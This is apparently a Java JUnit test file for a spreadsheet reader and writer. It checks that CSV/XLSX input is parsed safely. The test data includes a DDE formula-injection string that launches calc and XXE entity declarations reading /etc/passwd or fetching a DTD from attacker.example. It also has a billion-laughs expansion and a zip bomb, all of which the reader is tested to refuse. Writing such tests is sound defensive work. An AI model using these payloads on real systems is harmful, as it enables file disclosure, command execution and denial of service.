package entente.exchange.sheet;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import entente.dialogue.Problem;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

/** Spreadsheets are read cell by cell, and what comes in is not trusted. */
class SheetTest {

    private static final List<String> HEADINGS = List.of("a", "b", "value");

    private static List<Problem> problems(byte[] octets) {
        UnreadableSheet unreadable = catchThrowableOfType(UnreadableSheet.class, () -> Sheet.read(octets));
        return unreadable == null ? List.of() : unreadable.problems();
    }

    private static List<Problem> problems(XlsxFile file) {
        return problems(file.octets());
    }

    private static void refusesWhole(byte[] octets, String message) {
        assertThat(problems(octets))
                .singleElement()
                .satisfies(problem -> assertThat(problem.message()).contains(message));
    }

    private static void refusesCell(String cell, String message) {
        assertThat(problems(XlsxFile.ofCell(cell)))
                .containsExactly(new Problem("/C2", "Row 2, column C (value): " + message));
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String cell(String cell) {
        return Sheet.read(XlsxFile.ofCell(cell).octets()).rows().get(2).get(2);
    }

    @Test
    void givesBackWhatWasWritten() {
        Random random = new Random(20250106);
        for (int i = 0; i < 300; i++) {
            List<List<String>> rows = randomRows(random);
            Map<Integer, List<String>> expected = new TreeMap<>();
            IntStream.range(0, rows.size()).forEach(row -> expected.put(row + 1, rows.get(row)));

            assertThat(Sheet.read(SheetWriter.xlsx("Rows", rows)).rows()).isEqualTo(expected);
            assertThat(Sheet.read(SheetWriter.csv(rows)).rows()).isEqualTo(expected);
        }
    }

    /** No row is empty, and none ends in an empty cell. */
    private static List<List<String>> randomRows(Random random) {
        List<List<String>> rows = new ArrayList<>();
        rows.add(HEADINGS);
        for (int row = random.nextInt(6); row >= 0; row--) {
            List<String> cells = new ArrayList<>();
            for (int cell = random.nextInt(5); cell > 0; cell--) {
                cells.add(random.nextInt(4) == 0 ? "" : randomText(random));
            }
            cells.add("x" + randomText(random));
            rows.add(cells);
        }
        return rows;
    }

    private static String randomText(Random random) {
        String[] pieces = {
            "=",
            "+",
            "-",
            "@",
            "\t",
            "\r",
            "\n",
            "'",
            "\"",
            ",",
            ";",
            "1",
            "0",
            "040",
            ".5",
            "12.25",
            "-3",
            "1e9",
            " ",
            "_x000D_",
            "_",
            "<b>",
            "&amp;",
            "ä",
            "Ж",
            "\uD83D\uDE00",
            "\uFF1D",
            "SUM(A1)",
            "cmd|' /C calc'!A0"
        };
        StringBuilder text = new StringBuilder();
        for (int piece = random.nextInt(4); piece >= 0; piece--) {
            text.append(pieces[random.nextInt(pieces.length)]);
        }
        return text.toString();
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1-1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uFF1D1"})
    void writesNoTextThatAProgramWouldTakeForAFormula(String text) {
        assertThat(new String(SheetWriter.csv(List.of(List.of(text))), StandardCharsets.UTF_8))
                .matches("(?s)\uFEFF\"?'.*");
        try (XmlStream sheet = OpcPackage.unzip(SheetWriter.xlsx("Rows", List.of(List.of(text))), SheetLimits.TABLE)
                .open("xl/sharedStrings.xml")) {
            while (!sheet.starts("t")) {
                assertThat(sheet.next()).isTrue();
            }
            assertThat(sheet.text()).startsWith("'");
        }
    }

    @Test
    void writesNumbersAsNumbers() {
        assertThat(new String(SheetWriter.csv(List.of(List.of("-5", "0.5"))), StandardCharsets.UTF_8))
                .isEqualTo("\uFEFF-5,0.5\r\n");
    }

    @Test
    void readsWhatAProgramWrites() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (Workbook workbook = new Workbook(out, "Test", "1.0")) {
            Worksheet sheet = workbook.newWorksheet("One");
            sheet.value(0, 0, "a");
            sheet.value(2, 1, 0.1 + 0.2);
            sheet.value(2, 2, true);
            workbook.newWorksheet("Two").value(0, 0, "not read");
        }
        assertThat(Sheet.read(out.toByteArray()).rows())
                .isEqualTo(Map.of(1, List.of("a"), 3, List.of("", "0.3", "TRUE")));
    }

    @ParameterizedTest
    @CsvSource({
        "0.30000000000000004, 0.3",
        "1E3, 1000",
        "1.5E-7, 0.00000015",
        "-0, 0",
        "3.0, 3",
        ".5, 0.5",
        "100, 100",
        "123456789012345680, 123456789012346000"
    })
    void readsNumbersAsPeopleSeeThem(String stored, String shown) {
        assertThat(cell("<c r=\"C2\" s=\"3\"><v>" + stored + "</v></c>")).isEqualTo(shown);
    }

    @Test
    void readsTextInEveryForm() {
        assertThat(cell("<c r=\"C2\" t=\"s\"><v>0</v></c>")).isEqualTo("shared");
        assertThat(cell("<c r=\"C2\" t=\"str\"><v>kept</v></c>")).isEqualTo("kept");
        assertThat(cell("<c/><c/><c t=\"inlineStr\"><is><r><t>rich </t></r><r><rPr><b/></rPr><t>text</t></r>"
                        + "<rPh sb=\"0\" eb=\"1\"><t>spoken</t></rPh></is></c>"))
                .isEqualTo("rich text");
        assertThat(cell(XlsxFile.text("C2", "one_x000D_two _x005F_x000D_"))).isEqualTo("one\rtwo _x000D_");
    }

    @Test
    void passesOverCellsThatAreEmpty() {
        assertThat(Sheet.read(XlsxFile.ofCell("<c r=\"XFD2\" s=\"1\"/><c r=\"A2\"><v></v></c>")
                                .octets())
                        .rows())
                .isEqualTo(Map.of(1, HEADINGS));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a,b\r\n1,\"x;y\tz\"\r\n",
                "\uFEFFa;b\n1;x;y\tz",
                "a\tb\n1\t\"x;y\tz\"\n",
                "\"a\",b\n\"1\",\"x;y\tz\""
            })
    void guessesWhatSeparatesValues(String text) {
        List<String> row = Sheet.read(utf8(text)).rows().get(2);
        assertThat(String.join(text.startsWith("\uFEFF") ? ";" : "|", row)).isIn("1|x;y\tz", "1;x;y\tz");
    }

    @Test
    void countsRowsAsASpreadsheetShowsThem() {
        assertThat(Sheet.read(utf8("a,b\n\n\"two\nlines\",x\n1,2")).rows())
                .isEqualTo(Map.of(1, List.of("a", "b"), 3, List.of("two\nlines", "x"), 4, List.of("1", "2")));
    }

    @Test
    void findsColumnsByTheirHeadings() {
        HeadedSheet sheet = Sheet.read(utf8("Value, a ,b\n1,2,3\n\n4")).under(HEADINGS);
        assertThat(sheet.rows()).isEqualTo(Map.of(2, List.of("2", "3", "1"), 4, List.of("", "", "4")));
        assertThat(sheet.problem(4, "value", "4", "Too much."))
                .isEqualTo(new Problem("/A4", "Row 4, column A (value), \"4\": Too much."));
        assertThat(sheet.problem(0, "", "x", "Missing.")).isEqualTo(new Problem("", "\"x\": Missing."));
    }

    @Test
    void namesColumnsThatAreMissingUnknownOrThereTwice() {
        UnreadableSheet unreadable = catchThrowableOfType(
                UnreadableSheet.class,
                () -> Sheet.read(utf8("a,a,note,\n1,2,3,4")).under(HEADINGS));
        assertThat(unreadable.problems())
                .extracting(Problem::message)
                .containsExactly(
                        "Row 1, column B (a): This heading stands twice.",
                        "Row 1, column C (note): There is no such column. Expected: a, b, value.",
                        "Row 1, column D: This column has no heading. Expected: a, b, value.",
                        "The column \"b\" is missing.",
                        "The column \"value\" is missing.");
    }

    @Test
    void takesTheValueOfAFormula() {
        assertThat(cell("<c r=\"C2\"><f>1+1</f><v>2</v></c>")).isEqualTo("2");
        assertThat(cell("<c r=\"C2\" t=\"str\"><f>A1&amp;\"x\"</f><v>ax</v></c>"))
                .isEqualTo("ax");
        assertThat(cell("<c r=\"C2\"><f t=\"shared\" si=\"0\"/><v>3</v></c>")).isEqualTo("3");
    }

    @Test
    void refusesAFormulaThatNobodyHasCalculated() {
        String message =
                "This cell holds a formula without a value. Save the file in a spreadsheet program, or copy the"
                        + " cell as a value.";
        refusesCell("<c r=\"C2\" t=\"str\"><f>WEBSERVICE(\"x\")</f></c>", message);
        refusesCell("<c r=\"C2\"><f t=\"shared\" si=\"0\"/></c>", message);
    }

    @Test
    void refusesErrors() {
        refusesCell(
                "<c r=\"C2\" t=\"e\"><v>#REF!</v></c>",
                "This cell holds the error #REF!. Correct it, or leave it empty.");
        assertThat(problems(utf8("a,b\n1,#DIV/0!")))
                .containsExactly(new Problem(
                        "/B2",
                        "Row 2, column B (b): This cell holds the error #DIV/0!. Correct it, or leave it empty."));
    }

    @Test
    void keepsAFaultWithItsCell() {
        Sheet sheet = SheetFile.open(utf8("a,b\n1,x\u0000y\n2,\u0000"), SheetLimits.TABLE, null)
                .sheet("");
        assertThat(sheet.text(2, 0)).isEqualTo("1");
        assertThat(sheet.fault(2, 0)).isEmpty();
        assertThat(sheet.fault(2, 1)).isPresent();
    }

    @Test
    void readsTheSheetsThatItsReaderSees() {
        String sheets =
                "<workbook xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
                        + "<sheet name=\"Old\" state=\"%s\" r:id=\"s1\"/><sheet name=\"New\" r:id=\"s2\"/></sheets></workbook>";
        for (String state : List.of("hidden", "veryHidden")) {
            XlsxFile file = XlsxFile.ofRows("<row r=\"1\">" + XlsxFile.text("A1", "old") + "</row>")
                    .withSecondSheet("<row r=\"1\">" + XlsxFile.text("A1", "new") + "</row>")
                    .with("xl/workbook.xml", sheets.formatted(state));
            SheetFile open = SheetFile.open(file.octets(), SheetLimits.TABLE, null);
            assertThat(open.names()).containsExactly("New");
            assertThat(open.sheet("New").text(1, 0)).isEqualTo("new");
            assertThat(catchThrowableOfType(UnreadableSheet.class, () -> open.sheet("Old")))
                    .hasMessage("There is no sheet \"Old\". Expected one of: New.");
        }
    }

    @Test
    void knowsWhereACellLeads() {
        XlsxFile file = XlsxFile.ofRows("<row r=\"1\">" + XlsxFile.text("A1", "AP") + XlsxFile.text("B1", "BBC")
                        + "<c r=\"C1\" t=\"str\"><f>HYPERLINK(\"https://c.example\",\"C\")</f><v>C</v></c></row>")
                .with(
                        "xl/worksheets/sheet1.xml",
                        "<worksheet xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheetData>"
                                + "<row r=\"1\">" + XlsxFile.text("A1", "AP") + XlsxFile.text("B1", "BBC")
                                + "<c r=\"C1\" t=\"str\"><f>HYPERLINK(\"https://c.example\",\"C\")</f><v>C</v></c></row>"
                                + "</sheetData><hyperlinks><hyperlink ref=\"A1:B1\" r:id=\"h1\"/>"
                                + "<hyperlink ref=\"A1:XFD1048576\" r:id=\"h9\"/></hyperlinks></worksheet>")
                .with(
                        "xl/worksheets/_rels/sheet1.xml.rels",
                        "<Relationships><Relationship Id=\"h1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                                + "relationships/hyperlink\" Target=\"https://ap.example/a?b=1|2\""
                                + " TargetMode=\"External\"/></Relationships>");
        Sheet sheet = Sheet.read(file.octets());
        assertThat(sheet.link(1, 0)).hasValue("https://ap.example/a?b=1|2");
        assertThat(sheet.link(1, 1)).hasValue("https://ap.example/a?b=1|2");
        assertThat(sheet.link(1, 2)).hasValue("https://c.example");
        assertThat(sheet.link(2, 0)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sep=;\na;b\n1;x,y,z",
                "\"sep=;\"\r\na;b\r\n1;x,y,z",
                "a|b\n1|x,y,z",
                "My moves, a draft\n\na;b;c\n1;x,y,z;",
                "\"a\nline, or two\";b;c\n1;x,y,z;"
            })
    void findsWhatSeparatesBelowATitleOrAsTheFirstLineTells(String text) {
        Sheet sheet = Sheet.read(utf8(text));
        assertThat(sheet.text(sheet.rows().lastKey(), 1)).isEqualTo("x,y,z");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            a,b~1,"half|Line 2: the quotation that begins here does not end. Put a quotation mark at its end, or take away the one at its beginning.
            a,b~"1~",2~"3,4|Line 4: the quotation that begins here does not end. Put a quotation mark at its end, or take away the one at its beginning.
            a,b~"Peace" talks,2|Line 2: more text follows the end of a quotation that begins in line 2. Expected a separator there; write quotation marks within a cell twice ("").
            """)
    void tellsWhereAQuotationDoesNotEnd(String text, String message) {
        refusesWhole(utf8(text.replace('~', '\n')), message);
    }

    @ParameterizedTest
    @ValueSource(strings = {"1e400", "NaN", "Infinity", "1e999999999", "0x10", "1 000", "1d"})
    void refusesWhatIsNoNumber(String number) {
        refusesCell("<c r=\"C2\"><v>" + number + "</v></c>", "Expected a number that a spreadsheet can hold.");
    }

    @Test
    void refusesWhatCannotBeSeen() {
        String message = "This cell holds a character that cannot be seen. Type its text again.";
        refusesCell(XlsxFile.text("C2", "a_x0000_b"), message);
        refusesWhole(XlsxFile.ofCell(XlsxFile.text("C2", "a\u0000b")).octets(), OpcPackage.BROKEN);
        assertThat(problems(utf8("a,b\n1,x\u0000y")))
                .containsExactly(new Problem("/B2", "Row 2, column B (b): " + message));
    }

    @ParameterizedTest
    @ValueSource(strings = {"xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml", "_rels/.rels"})
    void refusesEntitiesInEveryPart(String part) {
        for (String declared : new String[] {
            "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
            "<!ENTITY % x SYSTEM \"http://attacker.example/x.dtd\"> %x;",
            "<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY x \"&b;&b;&b;&b;\">"
        }) {
            refusesWhole(
                    XlsxFile.ofCell("<c/>")
                            .with(
                                    part,
                                    "<?xml version=\"1.0\"?><!DOCTYPE sst [" + declared
                                            + "]><sst><si><t>&x;</t></si></sst>")
                            .octets(),
                    "This file declares entities");
        }
        refusesWhole(
                XlsxFile.ofCell("<c/>")
                        .with(part, "<sst><si><t>&x;</t></si></sst>")
                        .octets(),
                "");
    }

    @Test
    void refusesAZipBomb() {
        refusesWhole(
                XlsxFile.ofCell("<c/>")
                        .with("xl/media/image.png", new byte[40 << 20])
                        .octets(),
                "Expected at most 32 MiB when unpacked.");
    }

    @Test
    void refusesTooManyEntries() {
        XlsxFile file = XlsxFile.ofCell("<c/>");
        IntStream.range(0, 600).forEach(i -> file.with("x" + i, ""));
        refusesWhole(file.octets(), OpcPackage.BROKEN);
    }

    @Test
    void refusesTooManyRows() {
        StringBuilder rows = new StringBuilder();
        IntStream.rangeClosed(1, 100_000).forEach(row -> rows.append("<row><c><v>1</v></c></row>"));
        refusesWhole(XlsxFile.ofRows(rows.toString()).octets(), "Expected at most 10000 rows; row 10001 is beyond.");
        refusesWhole(utf8("1\n".repeat(100_000)), "Expected at most 10000 rows; row 10001 is beyond.");
    }

    @Test
    void refusesTooManyColumns() {
        refusesWhole(
                XlsxFile.ofRows("<row>" + "<c><v>1</v></c>".repeat(2000) + "</row>")
                        .octets(),
                "Row 1, column CW: Expected at most 100 columns");
        refusesWhole(
                XlsxFile.ofRows("<row><c r=\"XFD1\"><v>1</v></c></row>").octets(),
                "Row 1, column XFD: Expected at most 100 columns");
        refusesWhole(utf8("1,".repeat(2000)), "Row 1, column CW: Expected at most 100 columns");
    }

    @Test
    void refusesTooLongACellAndTooMuchText() {
        refusesCell(
                XlsxFile.text("C2", "x".repeat(20_000)),
                "Expected at most 10000 characters in a cell; here are 20000.");
        XlsxFile file = XlsxFile.ofRows("<row><c t=\"s\"><v>0</v></c><c t=\"s\"><v>0</v></c></row>".repeat(900))
                .with("xl/sharedStrings.xml", "<sst><si><t>" + "x".repeat(9_000) + "</t></si></sst>");
        refusesWhole(file.octets(), "Expected at most 8000000 characters in all cells together.");
        refusesWhole(new byte[9 << 20], "Expected a file of at most 8 MiB.");
    }

    static Stream<byte[]> broken() {
        return Stream.of(
                XlsxFile.ofCell("<c/>").without("xl/worksheets/sheet1.xml").octets(),
                XlsxFile.ofCell("<c/>").without("xl/workbook.xml").octets(),
                XlsxFile.ofCell("<c/>").without("_rels/.rels").octets(),
                XlsxFile.ofCell("<c/>").with("XL/workbook.XML", "<workbook/>").octets(),
                XlsxFile.ofCell("<c t=\"s\"><v>1</v></c>").octets(),
                XlsxFile.ofCell("<c t=\"s\"><v>-1</v></c>").octets(),
                XlsxFile.ofCell("<c r=\"ABCDEF1\"><v>1</v></c>").octets(),
                XlsxFile.ofRows("<row r=\"0\"/>").octets(),
                XlsxFile.ofRows("<row r=\"9999999\"/>").octets(),
                XlsxFile.ofRows("<row>").octets());
    }

    @Test
    void refusesWhatIsCutOff() {
        byte[] whole = XlsxFile.ofCell("<c r=\"C2\"><v>1</v></c>").octets();
        refusesWhole(Arrays.copyOf(whole, whole.length / 2), "This file is cut off or damaged");
        refusesWhole(Arrays.copyOf(whole, 700), "This file is cut off or damaged");
        refusesWhole(utf8("PK and no more"), "This file is cut off or damaged");
    }

    @ParameterizedTest
    @MethodSource("broken")
    void refusesWhatIsBroken(byte[] octets) {
        refusesWhole(octets, OpcPackage.BROKEN);
    }

    /** Java's own parser would write to the console about what is not in the encoding that it says. */
    @ParameterizedTest
    @ValueSource(strings = {"_rels/.rels", "xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"})
    @ExtendWith(OutputCaptureExtension.class)
    void refusesWhatIsWrittenInNoUnicodeAndSaysSoToNobodyElse(String part, CapturedOutput output) {
        for (String text :
                List.of("é", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a>é</a>", "<a b=\"é\"/>", "<a><é/></a>")) {
            byte[] latin = text.getBytes(StandardCharsets.ISO_8859_1);
            refusesWhole(XlsxFile.ofCell("<c/>").with(part, latin).octets(), OpcPackage.BROKEN);
        }
        assertThat(output).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-8", "UTF-16", "UTF-16LE", "UTF-16BE"})
    void readsPartsInUtf8AndUtf16(String encoding) {
        String sheet = XlsxFile.worksheet("<row r=\"1\">" + XlsxFile.text("A1", "é €") + "</row>");
        boolean marked = encoding.equals("UTF-16");
        byte[] octets = ((marked ? "" : "\uFEFF") + "<?xml version=\"1.0\" encoding=\"" + encoding + "\"?>" + sheet)
                .getBytes(Charset.forName(encoding));

        assertThat(Sheet.read(XlsxFile.ofCell("<c/>")
                                .with("xl/worksheets/sheet1.xml", octets)
                                .octets())
                        .rows()
                        .get(1))
                .containsExactly("é €");
    }

    @Test
    void refusesOtherKindsOfFile() {
        refusesWhole(
                new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0},
                "This is an .xls file of old, or one with a password.");
        refusesWhole(new byte[0], "The file is empty.");
        refusesWhole(new byte[] {'a', (byte) 0xff}, "save it as \"CSV UTF-8\"");
    }

    @Test
    void refusesACellThatStandsTwice() {
        refusesCell(
                "<c r=\"C2\"><v>1</v></c><c r=\"C2\"><v>2</v></c>",
                "This cell stands twice in the file. Save it again.");
    }
}
